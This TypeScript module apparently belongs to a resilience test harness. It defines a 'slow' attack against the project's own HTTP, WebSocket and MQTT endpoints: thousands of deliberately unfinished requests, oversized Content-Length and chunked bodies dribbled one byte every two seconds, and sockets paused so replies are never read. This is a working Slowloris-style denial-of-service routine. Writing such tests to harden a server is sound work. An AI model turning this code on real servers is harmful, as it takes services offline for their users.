import type { Socket } from 'node:net';
import type { Attack } from '../attack.ts';
import { HANDSHAKE } from '../frames.ts';
import { connectPacket } from '../mqtt-packets.ts';

/** Beginnings that are never ended; what dribbles after them, byte by byte. */
const BEGINNINGS: readonly (readonly [start: string, dribble: string])[] = [
  ['GET / HTTP/1.1\r\nHost: hall\r\n', 'X: y\r\n'],
  ['', 'GET / HTTP/1.1\r\n'],
  [
    'POST /api/sign-in HTTP/1.1\r\nHost: hall\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n',
    ' ',
  ],
  [
    'POST /api/scrutineer/act HTTP/1.1\r\nHost: hall\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n',
    '[',
  ],
  [
    'POST /api/act HTTP/1.1\r\nHost: hall\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n',
    '1\r\n \r\n',
  ],
  ['GET /api/receipts HTTP/1.1\r\nHost: hall\r\n\r\n', 'G'],
  [HANDSHAKE.toString(), '\x82'],
  [HANDSHAKE.toString().slice(0, -2), 'X: y\r\n'],
];

export const slow: Attack = {
  name: 'slow',
  does: 'thousands of unfinished requests and connections from 60 addresses, heads and bodies that dribble',
  most: 4_000,
  run: async (strike) => {
    const { http, mqtt } = strike.context;
    const dribbling: { readonly socket: Socket; readonly dribble: string; at: number }[] = [];
    const dripping = setInterval(() => {
      for (const each of dribbling) {
        if (each.socket.destroyed) continue;
        strike.send(each.socket, Buffer.from(each.dribble.charAt(each.at % each.dribble.length), 'latin1'));
        each.at += 1;
      }
    }, 2_000);
    try {
      for await (const i of strike.turns(250)) {
        // What was cut off is opened again, up to the bound.
        if (strike.open >= 3_900) continue;
        if (i % 4 === 0) {
          // An MQTT connection that says nothing, or half of its first packet.
          const socket = strike.connect(mqtt);
          if (strike.dice.one(2))
            strike.send(socket, connectPacket('stranger', 'x'.repeat(500)).subarray(0, 100));
          continue;
        }
        const [start, dribble] = strike.dice.pick(BEGINNINGS);
        const socket = strike.connect(http);
        strike.send(socket, Buffer.from(start));
        // What it is answered, it does not read.
        socket.pause();
        dribbling.push({ socket, dribble, at: 0 });
      }
      strike.counts.seen['held at the end'] = strike.open;
    } finally {
      clearInterval(dripping);
    }
  },
};
